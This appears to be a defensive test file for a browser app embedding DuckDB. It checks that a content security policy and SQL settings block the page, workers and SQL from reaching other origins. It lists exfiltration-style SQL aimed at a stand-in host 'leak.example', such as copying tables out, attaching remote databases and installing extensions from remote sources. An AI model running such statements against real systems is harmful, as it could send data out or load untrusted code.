import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { openPage } from './harness';

// Reserved for documentation: nobody is asked even if the policy should fail.
const elsewhere = 'https://leak.example/?rows';

describe.each([
  { headers: true, base: '/' },
  { headers: false, base: '/some/where/' },
])('served at $base, headers: $headers', ({ headers, base }) => {
  test('Quire opens without an error or a request to anyone else', async () => {
    const { page, url } = await openPage({ headers, base });
    expect(page.url()).toBe(url);
    expect(new URL(url).pathname).toBe(base);
  });

  test('neither the page nor a worker nor a worker of a worker can reach another origin', async () => {
    const { page, url, expectProblem } = await openPage({ headers, base });
    expectProblem(/^console: .*(violates|Refused to connect).*Content Security Policy/s);
    expectProblem(/^console: Fetch API cannot load https:\/\/leak\.example/);
    for (const ask of [askFromPage, askFromWorker, askFromNestedWorker]) {
      expect(await ask(page, url), ask.name).toBe('answered');
      expect(await ask(page, elsewhere), ask.name).toBe('refused');
    }
  });

  test('SQL cannot reach a server that listens', async () => {
    const server = await listen();
    const { page } = await openPage({ headers, base });
    const tries = [server.url, 'https://leak.example'].flatMap((address) =>
      reaching.map((sql) => sql.replace('ADDRESS', address)),
    );
    const answers = await page.evaluate(async (statements) => {
      const ends: string[] = [];
      for (const sql of statements) {
        ends.push(
          await window.quire.query(sql).then(
            () => `answered: ${sql}`,
            ({ code }: { code: string }) => code,
          ),
        );
      }
      return ends;
    }, tries);
    const refusals = ['sql-refused', 'sql-name', 'sql-needs-extension'];
    expect(answers.filter((answer) => !refusals.includes(answer))).toEqual([]);
    expect(await page.evaluate(() => window.quire.query('select 42').then(({ rows }) => rows))).toEqual([
      [42],
    ]);
    expect(server.asked).toEqual([]);
    await fetch(server.url);
    expect(server.asked).toEqual(['/']);
    server.close();
  });
});

/** Ways in which SQL could send something away, or fetch what could. */
const reaching = [
  "select * from read_csv('ADDRESS/leak.csv?rows')",
  "select * from read_csv(['ADDRESS/a.csv', 'ADDRESS/b.csv'])",
  "select * from 'ADDRESS/leak.csv'",
  "from 'ADDRESS/leak.parquet'",
  "select * from read_parquet('ADDRESS/leak.parquet')",
  "select * from read_text('ADDRESS/leak')",
  "select * from read_blob('ADDRESS/leak')",
  "select * from sniff_csv('ADDRESS/leak.csv')",
  "select * from read_json('ADDRESS/leak.json')",
  "attach 'ADDRESS/leak.duckdb' as leak",
  "copy (select 42) to 'ADDRESS/leak.csv'",
  "export database 'ADDRESS/leak'",
  'install httpfs',
  "install leak from 'ADDRESS'",
  "load 'ADDRESS/leak.duckdb_extension'",
  'set enable_external_access = true',
  "set custom_extension_repository = 'ADDRESS'",
  "select now() at time zone 'Asia/Shanghai'",
];

async function listen() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('a,b\n1,2\n');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  const { port } = server.address() as AddressInfo;
  return { asked, url: `http://127.0.0.1:${port}`, close: () => server.close() };
}

const script = `onmessage = ({ data }) => fetch(data).then(() => 'answered', () => 'refused').then(postMessage)`;

function askFromPage(page: Page, address: string): Promise<string> {
  return page.evaluate(
    (address) =>
      fetch(address).then(
        () => 'answered',
        () => 'refused',
      ),
    address,
  );
}

function askFromWorker(page: Page, address: string): Promise<string> {
  return askWorker(page, script, address);
}

function askFromNestedWorker(page: Page, address: string): Promise<string> {
  const outer = `
    const inner = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(script)}])));
    inner.onmessage = ({ data }) => postMessage(data);
    onmessage = ({ data }) => inner.postMessage(data);`;
  return askWorker(page, outer, address);
}

function askWorker(page: Page, source: string, address: string): Promise<string> {
  return page.evaluate(
    ({ source, address }) =>
      new Promise<string>((done) => {
        const worker = new Worker(URL.createObjectURL(new Blob([source])));
        worker.onmessage = ({ data }) => done(data);
        worker.postMessage(address);
      }),
    { source, address },
  );
}
